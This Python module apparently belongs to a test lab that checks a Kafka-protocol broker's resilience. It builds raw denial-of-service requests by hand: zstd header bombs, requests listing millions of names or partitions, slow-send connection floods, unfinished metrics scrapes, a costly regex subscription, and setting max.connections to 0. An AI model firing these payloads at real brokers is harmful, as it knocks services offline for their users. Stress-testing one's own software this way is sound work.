"""The attacks: each one sends what any client can send, and returns what became of it in a few words.

All bytes are built by hand, without tidelog's codec, so that an attack can send what the codec would refuse.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import struct
import threading
import time
from collections.abc import Callable, Mapping
from typing import Final, NamedTuple

from confluent_kafka.admin import NewTopic
from crc32c import crc32c

from brokerlab.broker_process import BrokerProcess
from brokerlab.clients import admin_client, consume_messages, produce_values
from brokerlab.raw_client import ConnectionClosedError, RawClient, frame, request_header
from tidelog.records.compression import Compression, compress

ANSWER_TIMEOUT_S: Final = 60.0
DAY_MS: Final = 86_400_000
METADATA, PRODUCE, FETCH, LIST_OFFSETS, DESCRIBE_GROUPS, CREATE_TOPICS = 3, 0, 1, 2, 15, 19
WRITE_TXN_MARKERS, JOIN_GROUP, HEARTBEAT, CONSUMER_GROUP_HEARTBEAT = 27, 11, 12, 68
DESCRIBE_CONFIGS, BROKER_RESOURCE = 32, 4
COORDINATOR_BUSY: Final = (14, 15, 16)
TARGET: Final = "target"
"""The topic that the attacks may use."""
NOT_FILLED: Final = "not filled: "
LEFT_OUT: Final = "metrics of others are left out: "
"""The beginnings of the outcomes of attacks that did not fill a limit, or filled it against others."""


class Target(NamedTuple):
    """The attacked broker. `scale` reduces the number of elements for a short run. Users log in at
    `sasl_address` if the attack fills a limit.
    """

    broker: BrokerProcess
    metrics_address: str
    scale: float
    sasl_address: str = ""
    console_address: str = ""

    def count(self, number: int) -> int:
        return max(int(number * self.scale), 1)


class Attack(NamedTuple):
    name: str
    title: str
    run: Callable[[Target], str]
    bound_ms: float = 100.0
    """The longest wait of another client that is accepted."""
    bound_mb: float = 200.0
    """The growth of the broker's memory that is accepted."""
    fills: bool = False
    """Whether the attack fills a limit that clients share, while the bystander works."""
    settings: Mapping[str, str] = {}
    """More settings of the broker."""
    partitions: int = 1
    """The partitions of TARGET."""
    bystander_options: tuple[str, ...] = ()
    has_console: bool = False
    """Whether the bystander uses a console, whose users log in, and not the broker."""
    least_p99_ms: float = 25.0
    """The 99th percentile that is accepted of a working bystander, also where it is more than twice that of a
    quiet broker.
    """


def unsigned_varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _varint(value: int) -> bytes:
    return unsigned_varint((value << 1) ^ (value >> 63))


def _string(text: str) -> bytes:
    return struct.pack(">h", len(text)) + text.encode()


def compact(text: str) -> bytes:
    return unsigned_varint(len(text) + 1) + text.encode()


def _ask(
    target: Target, api_key: int, version: int, body: bytes, *, is_flexible: bool = False
) -> bytes | str:
    """Sends one request. Returns the payload of the response, or a phrase if there is none."""
    with RawClient(target.broker.bootstrap, ANSWER_TIMEOUT_S) as client:
        try:
            client.send_bytes(frame(request_header(api_key, version, 1, is_flexible) + body))
            return client.read_frame()
        except (ConnectionClosedError, BrokenPipeError, ConnectionResetError):
            return "connection closed"
        except TimeoutError:
            return f"no answer in {ANSWER_TIMEOUT_S:.0f} s"


def _outcome(answer: bytes | str) -> str:
    return answer if isinstance(answer, str) else f"answered with {len(answer):,} bytes"


# -- records


def _batch(payload: bytes, timestamp_ms: int, *, codec: int, count: int = 1) -> bytes:
    tail = struct.pack(">hiqqqhii", codec, count - 1, timestamp_ms, timestamp_ms, -1, -1, -1, count) + payload
    return struct.pack(">qiibI", 0, 9 + len(tail), -1, 2, crc32c(tail)) + tail


def _record_of_headers(headers: int) -> bytes:
    """Returns a record whose headers have empty keys and null values: two bytes each."""
    body = b"\0\0\0" + _varint(-1) + _varint(-1) + _varint(headers) + b"\0\1" * headers
    return _varint(len(body)) + body


def _produce(target: Target, batch: bytes, topic: str = TARGET) -> bytes | str:
    body = struct.pack(">hhii", -1, 1, 30_000, 1) + _string(topic)
    body += struct.pack(">iii", 1, 0, len(batch)) + batch
    return _ask(target, PRODUCE, 7, body)  # the first version that may contain zstd


def _produce_code(answer: bytes | str) -> str:
    if isinstance(answer, str):
        return answer
    (code,) = struct.unpack_from(">h", answer, 4 + 4 + 2 + len(TARGET) + 4 + 4)
    return f"error {code}" if code else "accepted"


def _headers_bomb(target: Target, timestamp_ms: int) -> bytes:
    record = _record_of_headers(target.count(10_000_000))
    return _batch(bytes(compress(Compression.ZSTD, record)), timestamp_ms, codec=4)


def headers_ahead_of_the_clock(target: Target) -> str:
    batch = _headers_bomb(target, round(time.time() * 1000) + 30 * DAY_MS)
    return f"{len(batch):,} bytes: {_produce_code(_produce(target, batch))}"


def headers_then_lookup(target: Target) -> str:
    now_ms = round(time.time() * 1000)
    produced = _produce_code(_produce(target, _headers_bomb(target, now_ms)))
    body = struct.pack(">ii", -1, 1) + _string(TARGET) + struct.pack(">iiq", 1, 0, now_ms - 1000)
    return f"{produced}; lookup {_outcome(_ask(target, LIST_OFFSETS, 1, body))}"


def false_header(target: Target) -> str:
    """Sends batches whose header contradicts itself, then reads the topic."""
    produce_values(target.broker.bootstrap, TARGET, [b"first"])
    now_ms = round(time.time() * 1000)
    record = b"\x10\0\0\0\1\x04ab\0"
    results = [
        _produce_code(_produce(target, _batch(record, now_ms, codec=0, count=1_000_000))),
        _produce_code(_produce(target, _batch(record, now_ms, codec=4))),
    ]
    produce_values(target.broker.bootstrap, TARGET, [b"last"])
    try:
        read = [bytes(m.value() or b"") for m in consume_messages(target.broker.bootstrap, TARGET, 2)]
    except Exception as error:  # noqa: BLE001 - every failure of the reader is a result here
        return f"{', '.join(results)}; readers stop: {type(error).__name__}"
    whole = "readers go on" if read[:1] == [b"first"] and b"last" in read else f"readers got {read[:3]}"
    return f"{', '.join(results)}; {whole}"


# -- many elements


def metadata_of_empty_names(target: Target) -> str:
    count = target.count(4_000_000)
    return _outcome(_ask(target, METADATA, 1, struct.pack(">i", count) + bytes(2 * count)))


def describe_groups_of_many_ids(target: Target) -> str:
    count = target.count(1_000_000)
    body = struct.pack(">i", count) + b"".join(b"\0\5%05x" % n for n in range(count))
    return _outcome(_ask(target, DESCRIBE_GROUPS, 0, body))


def produce_of_null_partitions(target: Target) -> str:
    count = target.count(2_700_000)
    body = b"\0" + struct.pack(">hi", 1, 30_000) + b"\2" + compact(TARGET) + unsigned_varint(count + 1)
    body += bytes(6) * count + b"\0\0"
    return _outcome(_ask(target, PRODUCE, 9, body, is_flexible=True))


def markers_of_many_partitions(target: Target) -> str:
    count = target.count(250_000)
    indexes = struct.pack(f">{count}i", *range(count))
    topic = compact(TARGET) + unsigned_varint(count + 1) + indexes + b"\0"
    marker = struct.pack(">qhb", 1, 0, 1) + b"\2" + topic + struct.pack(">i", 0) + b"\0"
    return _outcome(_ask(target, WRITE_TXN_MARKERS, 1, b"\2" + marker + b"\0", is_flexible=True))


def create_many_topics(target: Target) -> str:
    count = target.count(10_000)
    topics = b"".join(_string(f"t{n}") + struct.pack(">ihii", 1, 1, 0, 0) for n in range(count))
    return _outcome(
        _ask(target, CREATE_TOPICS, 2, struct.pack(">i", count) + topics + struct.pack(">ib", 30_000, 0))
    )


def fetch_sessions(target: Target) -> str:
    count, sessions = target.count(230_000), 10
    partitions = b"".join(struct.pack(">iiqiqib", n, -1, 0, -1, -1, 1024, 0) for n in range(count))
    body = struct.pack(">iiiibii", -1, 0, 1, 1 << 20, 0, 0, 0) + b"\2" + compact(TARGET)
    body += unsigned_varint(count + 1) + partitions + b"\0" + b"\1" + b"\1" + b"\0"
    answers = {_outcome(_ask(target, FETCH, 12, body, is_flexible=True)) for _ in range(sessions)}
    return f"{sessions} sessions of {len(body) / 1e6:.1f} MB: {', '.join(sorted(answers))}"


# -- connections


def announced_frames(target: Target) -> str:
    """Opens connections that announce a request of 100 MB each and send two bytes of it."""
    count = target.count(4_000)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, count + 200), hard), hard))
    address = target.broker.host, target.broker.port
    opened: list[socket.socket] = []
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            try:
                connection = stack.enter_context(socket.create_connection(address, 5))
                connection.sendall(struct.pack(">i", 100_000_000) + b"\0\3")
            except OSError:
                break
            opened.append(connection)
        time.sleep(3)
        kept = sum(not _is_closed(connection) for connection in opened)
        return f"{kept:,} of {count:,} connections stay"


def _is_closed(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        return connection.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def many_small_requests(target: Target) -> str:
    """Sends small requests without pause over one connection, and reads their answers meanwhile."""
    count = target.count(100_000)
    setting = struct.pack(">ib", 1, BROKER_RESOURCE) + _string("") + struct.pack(">i", 1) + _string("log.dir")
    request = frame(struct.pack(">hhih", DESCRIBE_CONFIGS, 1, 1, -1) + setting + b"\0")
    answers = 0
    with RawClient(target.broker.bootstrap, ANSWER_TIMEOUT_S) as client:
        sender = threading.Thread(target=client.send_bytes, args=(request * count,))
        sender.start()
        with contextlib.suppress(ConnectionClosedError, OSError):
            while answers < count:
                client.read_frame()
                answers += 1
        sender.join()
    return f"{answers:,} of {count:,} requests answered"


def incomplete_scrapes(target: Target) -> str:
    """Leaves HTTP requests unfinished at the port of the metrics."""
    count = target.count(3_000)
    host, port = target.metrics_address.rsplit(":", 1)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, count + 200), hard), hard))
    with contextlib.ExitStack() as stack:
        opened = 0
        for _ in range(count):
            try:
                connection = stack.enter_context(socket.create_connection((host, int(port)), 5))
                connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: ")
            except OSError:
                break
            opened += 1
        time.sleep(3)
        return f"{opened:,} requests left unfinished"


# -- groups


def await_coordinator(target: Target, group_id: str) -> None:
    """Waits until the coordinator of the group has loaded its shard."""
    until = time.monotonic() + ANSWER_TIMEOUT_S
    with RawClient(target.broker.bootstrap, ANSWER_TIMEOUT_S) as client:
        while time.monotonic() < until:
            answer = client.call("find_coordinator", 4, key_type=0, coordinator_keys=[group_id])
            heartbeat = request_header(HEARTBEAT, 0, 1, False) + _string(group_id) + struct.pack(">i", 1)
            client.send_bytes(frame(heartbeat + _string("nobody")))
            (code,) = struct.unpack_from(">h", client.read_frame(), 4)
            if not answer.coordinators[0].error_code and code not in COORDINATOR_BUSY:
                return
            time.sleep(0.1)
    raise TimeoutError(f"{group_id} has no coordinator")


def join_with_large_metadata(target: Target) -> str:
    members, size = 20, target.count(7_000_000)
    await_coordinator(target, "large")
    answered = []
    body = _string("large") + struct.pack(">ii", 30_000, 30_000) + _string("") + _string("consumer")
    body += struct.pack(">i", 1) + _string("range") + struct.pack(">i", size) + bytes(size)
    for _ in range(members):
        with RawClient(target.broker.bootstrap, ANSWER_TIMEOUT_S) as client:
            try:
                client.send_bytes(frame(request_header(JOIN_GROUP, 2, 1, False) + body))
                client.socket.settimeout(0.3)
                answered.append(struct.unpack_from(">h", client.read_frame(), 8)[0])
            except TimeoutError:
                answered.append(0)
            except (ConnectionClosedError, OSError):
                answered.append(None)
    return f"{members} members of {size / 1e6:.0f} MB: {_counted(answered)}"


def _counted(codes: list[int | None]) -> str:
    words = {None: "closed", 0: "accepted"}
    return ", ".join(
        f"{codes.count(code)} {words.get(code, f'error {code}')}" for code in dict.fromkeys(codes)
    )


def expensive_pattern(target: Target) -> str:
    """Subscribes to a pattern of many optional classes, over topics with long names."""
    admin = admin_client(target.broker.bootstrap)
    topics = [NewTopic(f"{n:03}" + "a" * 240, 1) for n in range(400)]
    for future in admin.create_topics(topics).values():
        future.result(30)
    await_coordinator(target, "group")
    body = compact("group") + compact("m" * 22) + struct.pack(">i", 0) + b"\0\0" + struct.pack(">i", 300_000)
    body += b"\0" + compact("[a-z]?" * target.count(990) + "!") + b"\0" + b"\1" + b"\0"
    for _ in range(20):  # the coordinator may be about to learn the new topics
        answer = _ask(target, CONSUMER_GROUP_HEARTBEAT, 1, body, is_flexible=True)
        if isinstance(answer, str):
            return answer
        (code,) = struct.unpack_from(">h", answer, 4 + 1 + 4)
        if code not in COORDINATOR_BUSY:
            break
        time.sleep(0.5)
    return f"error {code}" if code else "accepted"


# -- settings


def no_connections(target: Target) -> str:
    """Sets max.connections to 0, then tries to connect again."""
    config = {"name": "max.connections", "config_operation": 0, "value": "0"}
    resource_ = {"resource_type": 4, "resource_name": "", "configs": [config]}
    with RawClient(target.broker.bootstrap) as client:
        answer = client.call("incremental_alter_configs", 1, resources=[resource_], validate_only=False)
    code = answer.responses[0].error_code
    altered = f"refused ({code.name})" if code else "accepted"
    try:
        with RawClient(target.broker.bootstrap, 5) as client:
            client.call("api_versions", 0)
        return f"{altered}; clients can connect"
    except OSError:
        return f"{altered}; no client can connect"


ATTACKS: Final = (
    Attack(
        "headers-ahead",
        "Produce of one zstd record with 10 million headers, ahead of the clock",
        headers_ahead_of_the_clock,
    ),
    Attack("headers-lookup", "the same record in range, then ListOffsets by time", headers_then_lookup),
    Attack("false-header", "batches with a false count or codec", false_header),
    Attack("metadata-names", "Metadata with 4 million names", metadata_of_empty_names),
    Attack("describe-groups", "DescribeGroups with a million ids", describe_groups_of_many_ids),
    Attack("produce-nulls", "Produce with 2.7 million null partitions", produce_of_null_partitions),
    Attack("markers", "WriteTxnMarkers with 250,000 partitions", markers_of_many_partitions),
    Attack("create-topics", "CreateTopics with 10,000 topics", create_many_topics),
    Attack("fetch-sessions", "10 fetch sessions of 230,000 partitions", fetch_sessions),
    Attack("announced", "4,000 connections that announce 100 MB and send 2 bytes", announced_frames),
    Attack("small-requests", "100,000 requests for one setting in one stream", many_small_requests),
    Attack("unfinished-scrapes", "3,000 unfinished requests at the metrics port", incomplete_scrapes),
    Attack("join-metadata", "20 members with 7 MB of JoinGroup metadata each", join_with_large_metadata),
    Attack("pattern", "a pattern of 990 optional classes over long names", expensive_pattern),
    Attack("no-connections", "IncrementalAlterConfigs with max.connections=0", no_connections),
)
